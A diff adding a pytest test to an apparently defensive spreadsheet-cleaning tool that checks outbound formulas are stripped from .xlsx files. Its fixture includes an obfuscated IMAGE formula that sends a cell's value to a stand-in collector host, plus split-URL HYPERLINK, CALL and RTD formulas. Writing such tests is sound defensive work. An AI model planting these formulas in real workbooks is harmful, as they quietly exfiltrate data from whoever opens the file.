@@ -7,6 +7,7 @@ import posixpath
 import struct
 import time
 import zipfile
+from xml.sax.saxutils import escape
 
 import pytest
 from lxml import etree
@@ -368,6 +369,32 @@ def test_a_workbook_loses_who_made_it_and_keeps_its_cells() -> None:
     assert [(entry.get("name"), entry.text) for entry in workbook.xpath("//s:definedName", namespaces={"s": S})] == [
         ("rate", "Offer!A1")
     ]
+
+
+OUT = '_xlfn.IMAGE("ht"&"tps://collect.example/"&A1)'
+
+
+def test_a_workbook_asks_no_other_machine_for_anything() -> None:
+    """Its formulas keep their last value; an address that is put together bit by bit is known by the function that takes it."""
+    calls = [OUT, 'HYPERLINK("ht"&"tp://"&A1,"here")', "CALL(A1,A2)", 'RTD("a.b",,"c")', "Prices[Image]", "RECALL+1"]
+    cells = "".join(
+        f'<c r="{column}1"><f>{escape(call)}</f><v>{number}</v></c>'
+        for number, (column, call) in enumerate(zip("ABCDEF", calls, strict=True))
+    )
+    sheet = (
+        f'<worksheet xmlns="{S}"><sheetData><row r="1">{cells}</row></sheetData>'
+        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{escape(OUT)}</formula></cfRule>'
+        f'</conditionalFormatting><dataValidations count="2"><dataValidation sqref="A1"><formula1>{escape(OUT)}</formula1>'
+        f"<formula2>{escape(OUT)}</formula2></dataValidation><dataValidation sqref='A2'><formula1>A1</formula1></dataValidation>"
+        "</dataValidations></worksheet>"
+    )
+    copy = cleaned(xlsx({"xl/sheet1.xml": sheet, "xl/_rels/sheet1.xml.rels": leads()}), "Prices.xlsx")
+    assert Metadatum("links", OUT) in copy.found
+    root = etree.fromstring(unzipped(copy)["xl/sheet1.xml"])
+    assert root.xpath("//s:f/text()", namespaces={"s": S}) == ["Prices[Image]", "RECALL+1"]
+    assert root.xpath("//s:v/text()", namespaces={"s": S}) == list("012345")
+    assert root.xpath("//*[starts-with(local-name(), 'formula')]/text()") == ["A1"]
+    assert root.xpath("//s:conditionalFormatting", namespaces={"s": S}) == []
 
 
 # --- ODT ------------------------------------------------------------------------------------------------------------
